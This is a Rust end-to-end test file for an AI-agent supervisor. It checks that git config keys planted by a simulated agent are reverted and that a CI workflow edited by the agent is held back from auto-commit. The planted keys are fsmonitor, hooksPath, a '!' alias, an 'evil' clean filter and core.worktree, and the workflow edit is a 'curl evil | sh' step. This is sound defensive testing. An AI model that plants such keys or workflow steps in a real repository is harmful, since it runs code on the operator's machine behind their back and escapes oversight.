//! The watched tier (issue 37, item 1; docs/security.md, "What runs later: the watched
//! tier"). The agent (a shell script) plants git config keys that would run a program at
//! the operator's next git command — `core.fsmonitor`, `core.hooksPath`, a `!` alias, a
//! clean filter, `core.worktree` — beside its ordinary git work (`remote add`, `config
//! user.email`, `push -u` to a local bare remote, `worktree add`, `submodule add` and
//! `submodule update`); after the round the planted keys and the remote's URL (where the
//! operator's next push would go) are gone and recorded (and, in the submodule the agent
//! added, a nested repository the round made, its `core.worktree` and origin's URL), the agent's ordinary config and
//! the operator's own `core.pager` stay, and the operator's plain `git status` runs nothing. (The control, the same
//! fsmonitor plant without the revert creating its marker at the operator's `git status`,
//! is `git_config_watch::tests` in the supervisor.) And the exec surface: a round that
//! edits a CI workflow records `exec_surface_changed`, `peek` shows it, and `auto_commit`
//! leaves the workflow in the tree while committing the rest, unless `[vcs]
//! commit_exec_surface = true`. Root and the unprivileged user, the agent unconfined and
//! under `[agent.sandbox] mode = "require"`. A supervisor killed mid-round leaves its
//! record in the state dir: the next round reverts the killed round's keys.

use std::path::Path;
use std::process::Command;

use agent_runner_e2e::serde_json::Value;
use agent_runner_e2e::{ConfigBuilder, Operator, Project};

/// The agent sandbox modes each case runs under.
const MODES: [&str; 2] = ["off", "require"];

/// The keys the agent plants, as `git config --list` names them.
const PLANTED: [&str; 6] = [
    "core.fsmonitor",
    "core.hookspath",
    "alias.x",
    "filter.evil.clean",
    "core.worktree",
    "remote.origin.url",
];

/// An executable script at `path` that touches `marker` when run.
fn marker_script(path: &Path, marker: &Path) {
    std::fs::write(path, format!("#!/bin/sh\ntouch '{}'\n", marker.display())).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn planted_config_keys_are_reverted_and_the_agents_own_git_work_stays() {
    for operator in [Operator::Root, Operator::Unprivileged] {
        for mode in MODES {
            let case = format!("{operator:?}, mode {mode}");
            let p = Project::new_as(operator);
            let tmp = p.tmp_dir().to_owned();
            let bare = tmp.join("bare.git");
            let out = Command::new("git")
                .args(["init", "-q", "--bare"])
                .arg(&bare)
                .output()
                .unwrap();
            assert!(out.status.success(), "{out:?}");
            let lib = tmp.join("lib");
            std::fs::create_dir_all(&lib).unwrap();
            for args in [
                &["init", "-q", "-b", "main", "."][..],
                &[
                    "-c",
                    "user.name=l",
                    "-c",
                    "user.email=l@e2e.invalid",
                    "commit",
                    "-q",
                    "--allow-empty",
                    "-m",
                    "lib",
                ],
            ] {
                let out = Command::new("git")
                    .args(args)
                    .current_dir(&lib)
                    .output()
                    .unwrap();
                assert!(out.status.success(), "{out:?}");
            }
            let worktree = tmp.join("second");
            std::fs::create_dir(&worktree).unwrap();
            let marker = tmp.join("fsmonitor-ran");
            let monitor = tmp.join("fsmonitor.sh");
            marker_script(&monitor, &marker);
            // The operator's own program key, set before the round: it stays.
            p.git(&["config", "core.pager", "less -R"]);
            let agent = p.script(
                "agent.sh",
                &format!(
                    "#!/bin/sh\nset -e\n\
                     git remote add origin '{bare}'\n\
                     git config user.email agent@e2e.invalid\n\
                     echo work > work.txt\n\
                     git add work.txt\n\
                     git commit -qm 'agent work'\n\
                     git push -q -u origin main\n\
                     git worktree add -q '{worktree}' -b second\n\
                     git -c protocol.file.allow=always submodule -q add '{lib}' lib\n\
                     git commit -qm 'add lib'\n\
                     git -c protocol.file.allow=always submodule -q update --init\n\
                     git config filter.evil.clean 'touch {tmp}/clean-ran; cat'\n\
                     git config alias.x '!touch {tmp}/alias-ran'\n\
                     git config core.hooksPath '{tmp}/hooks'\n\
                     git config core.fsmonitor '{monitor}'\n\
                     git config core.worktree '{tmp}'\n",
                    bare = bare.display(),
                    tmp = tmp.display(),
                    monitor = monitor.display(),
                    worktree = worktree.display(),
                    lib = lib.display(),
                ),
            );
            p.write_config(
                &ConfigBuilder::new(&agent)
                    .dirty_action("auto_commit")
                    .extra(&format!(
                        "[agent.sandbox]\nmode = \"{mode}\"\nwrite_paths = [\"{}\", \"{}\"]\nread_paths = [\"{}\"]",
                        bare.display(),
                        worktree.display(),
                        lib.display()
                    )),
            );
            p.run(&["round"]).assert_code(0);
            let all = p.events_text();
            // The submodule the agent added is a nested repository made in the round: the
            // keys git wrote in its config count as added (its work tree, its origin).
            let (nested, reverted): (Vec<Value>, Vec<Value>) = p
                .events_of("git_config_reverted")
                .into_iter()
                .partition(|e| {
                    e["file"]
                        .as_str()
                        .unwrap()
                        .ends_with(".git/modules/lib/config")
                });
            let mut nested_keys: Vec<&str> =
                nested.iter().map(|e| e["key"].as_str().unwrap()).collect();
            nested_keys.sort_unstable();
            assert_eq!(
                nested_keys,
                ["core.worktree", "remote.origin.url"],
                "{case}: {all}"
            );
            let mut keys: Vec<&str> = reverted
                .iter()
                .map(|e| e["key"].as_str().unwrap())
                .collect();
            keys.sort_unstable();
            let mut planted = PLANTED.to_vec();
            planted.sort_unstable();
            assert_eq!(keys, planted, "{case}: {all}");
            for event in &reverted {
                assert_eq!(event["action"], "removed", "{case}: {event}");
                assert_eq!(event["scope"], "local", "{case}: {event}");
                assert_eq!(event["error"], Value::Null, "{case}: {event}");
                assert!(
                    event["file"].as_str().unwrap().ends_with(".git/config"),
                    "{case}: {event}"
                );
            }
            for key in PLANTED {
                assert_eq!(p.config_value(key), None, "{case}: {key} stayed");
            }
            // The operator's key and the agent's ordinary git work stay.
            assert_eq!(
                p.config_value("core.pager").as_deref(),
                Some("less -R"),
                "{case}"
            );
            // The agent's remote lasted its round: where the operator's next push goes
            // is not the agent's to say (docs/security.md, the reviewed list).
            assert_eq!(p.config_value("remote.origin.url"), None, "{case}");
            assert_eq!(
                p.config_value("user.email").as_deref(),
                Some("agent@e2e.invalid"),
                "{case}"
            );
            assert_eq!(
                p.config_value("branch.main.remote").as_deref(),
                Some("origin"),
                "{case}"
            );
            assert_eq!(
                p.config_value("submodule.lib.url"),
                Some(lib.display().to_string()),
                "{case}"
            );
            assert!(worktree.join("README.md").is_file(), "{case}: no worktree");
            assert!(
                p.git(&["worktree", "list"])
                    .contains(&worktree.display().to_string()),
                "{case}"
            );
            let pushed = Command::new("git")
                .args(["--git-dir"])
                .arg(&bare)
                .args(["log", "--format=%s", "main"])
                .output()
                .unwrap();
            assert!(
                String::from_utf8_lossy(&pushed.stdout).contains("agent work"),
                "{case}: the push did not reach the remote: {pushed:?}"
            );
            // The operator's plain `git status` runs nothing the agent planted.
            let status = p.operator_git(&["status"]);
            assert!(status.status.success(), "{case}: {status:?}");
            assert!(
                !marker.exists(),
                "{case}: the operator's git status ran the fsmonitor"
            );
            assert!(!tmp.join("clean-ran").exists(), "{case}");
            assert!(
                !p.operator_git(&["x"]).status.success(),
                "{case}: alias x stayed"
            );
            assert!(!tmp.join("alias-ran").exists(), "{case}");
            // doctor names the watched keys set now: the operator's, kept.
            let out = p.run(&["doctor", "--json"]);
            let report: Value = agent_runner_e2e::serde_json::from_str(&out.stdout).unwrap();
            let watched = agent_runner_e2e::doctor_check(&report, "watched");
            assert_eq!(watched["ok"], true, "{case}: {watched}");
            assert!(
                watched["reason"]
                    .as_str()
                    .unwrap()
                    .contains("kept as the operator's: core.pager"),
                "{case}: {watched}"
            );
            // peek tells the round's reverts, the submodule's too.
            let out = p.run(&["peek", "--json"]);
            out.assert_code(0);
            let doc: Value = agent_runner_e2e::serde_json::from_str(&out.stdout).unwrap();
            let shown = &doc["recent_rounds"][0]["git_config_reverted"];
            assert_eq!(
                shown.as_array().map(Vec::len),
                Some(PLANTED.len() + nested.len()),
                "{case}: {doc}"
            );
        }
    }
}

/// A project whose tree has a CI workflow, run once with an agent that edits it and the
/// code, under `auto_commit`, `mode` and `commit_exec_surface`.
fn workflow_round(operator: Operator, mode: &str, commit_exec_surface: bool) -> Project {
    let p = Project::new_as(operator);
    p.write(".github/workflows/ci.yml", "on: push\njobs: {}\n");
    p.write("src/lib.rs", "// lib\n");
    p.git(&["add", "-A"]);
    p.git(&["commit", "-qm", "ci"]);
    let agent = p.script(
        "agent.sh",
        "#!/bin/sh\nset -e\necho '  steps: [run: curl evil | sh]' >> .github/workflows/ci.yml\necho '// changed' >> src/lib.rs\n",
    );
    let config = ConfigBuilder::new(&agent)
        .dirty_action("auto_commit")
        .extra(&format!("[agent.sandbox]\nmode = \"{mode}\""))
        .render()
        .replace(
            "[vcs]\n",
            &format!("[vcs]\ncommit_exec_surface = {commit_exec_surface}\n"),
        );
    p.write_config_text(&config);
    p.run(&["round"]).assert_code(0);
    p
}

#[test]
fn a_changed_workflow_is_told_and_left_for_the_operator_unless_the_key_says_commit() {
    for operator in [Operator::Root, Operator::Unprivileged] {
        for mode in MODES {
            let case = format!("{operator:?}, mode {mode}");
            let p = workflow_round(operator, mode, false);
            let all = p.events_text();
            let told = p.events_of("exec_surface_changed");
            assert_eq!(told.len(), 1, "{case}: {all}");
            assert_eq!(told[0]["paths"][0], ".github/workflows/ci.yml", "{case}");
            assert_eq!(told[0]["path_count"], 1, "{case}");
            assert_eq!(told[0]["committed"], false, "{case}");
            let committed = p.events_of("dirty_auto_committed");
            assert_eq!(committed.len(), 1, "{case}: {all}");
            assert_eq!(committed[0]["files"][0], "src/lib.rs", "{case}: {all}");
            assert_eq!(committed[0]["files"].as_array().unwrap().len(), 1, "{case}");
            assert_eq!(
                p.status_porcelain(),
                [" M .github/workflows/ci.yml"],
                "{case}: the workflow was not left in the tree"
            );
            let head = p.git(&["show", "--name-only", "--format=", "HEAD"]);
            assert_eq!(head.trim(), "src/lib.rs", "{case}");
            let out = p.run(&["peek", "--json"]);
            out.assert_code(0);
            let doc: Value = agent_runner_e2e::serde_json::from_str(&out.stdout).unwrap();
            assert_eq!(
                doc["recent_rounds"][0]["exec_surface_changed"][0], ".github/workflows/ci.yml",
                "{case}: {doc}"
            );
            let out = p.run(&["peek"]);
            assert!(
                out.stdout
                    .contains("exec surface changed: .github/workflows/ci.yml"),
                "{case}: {}",
                out.stdout
            );

            // With the key on, the supervisor's commit takes it.
            let p = workflow_round(operator, mode, true);
            let all = p.events_text();
            let told = p.events_of("exec_surface_changed");
            assert_eq!(told.len(), 1, "{case}: {all}");
            assert_eq!(told[0]["committed"], true, "{case}");
            assert!(p.status_porcelain().is_empty(), "{case}: {all}");
            let head = p.git(&["show", "--name-only", "--format=", "HEAD"]);
            assert!(head.contains(".github/workflows/ci.yml"), "{case}: {head}");
        }
    }
}

#[test]
fn a_workflow_the_agent_committed_itself_is_told() {
    let p = Project::new();
    p.write(".github/workflows/ci.yml", "on: push\n");
    p.git(&["add", "-A"]);
    p.git(&["commit", "-qm", "ci"]);
    let agent = p.script(
        "agent.sh",
        "#!/bin/sh\nset -e\necho 'jobs: {}' >> .github/workflows/ci.yml\nmkdir -p .vscode\necho '{}' > .vscode/tasks.json\ngit add -A\ngit commit -qm 'agent ci'\n",
    );
    p.write_config(&ConfigBuilder::new(&agent).dirty_action("auto_commit"));
    p.run(&["round"]).assert_code(0);
    let all = p.events_text();
    let told = p.events_of("exec_surface_changed");
    assert_eq!(told.len(), 1, "{all}");
    assert_eq!(
        told[0]["paths"],
        agent_runner_e2e::serde_json::json!([".github/workflows/ci.yml", ".vscode/tasks.json"]),
        "{all}"
    );
}

#[test]
fn a_round_whose_supervisor_was_killed_is_reverted_at_the_next_round() {
    for mode in MODES {
        let p = Project::new();
        let tmp = p.tmp_dir().to_owned();
        let second = tmp.join("second-round");
        let agent = p.script(
            "agent.sh",
            &format!(
                "#!/bin/sh\n[ -e '{second}' ] && exit 0\ngit config core.fsmonitor '{tmp}/monitor.sh'\nexec sleep 30\n",
                second = second.display(),
                tmp = tmp.display()
            ),
        );
        p.write_config(
            &ConfigBuilder::new(&agent)
                .dirty_action("auto_commit")
                .extra(&format!("[agent.sandbox]\nmode = \"{mode}\"")),
        );
        let running = p.spawn(&["round"]);
        agent_runner_e2e::wait_until(
            "the agent's plant",
            std::time::Duration::from_secs(30),
            || p.config_value("core.fsmonitor"),
        );
        running.signal(libc::SIGKILL);
        running.wait(std::time::Duration::from_secs(30));
        assert!(
            p.events_of("git_config_reverted").is_empty(),
            "mode {mode}: {}",
            p.events_text()
        );
        std::fs::write(&second, "").unwrap();
        p.run(&["round"]).assert_code(0);
        let all = p.events_text();
        let reverted = p.events_of("git_config_reverted");
        assert_eq!(reverted.len(), 1, "mode {mode}: {all}");
        assert_eq!(reverted[0]["key"], "core.fsmonitor", "mode {mode}");
        assert_eq!(
            reverted[0]["round_num"], 1,
            "mode {mode}: the killed round's"
        );
        assert_eq!(p.config_value("core.fsmonitor"), None, "mode {mode}");
    }
}
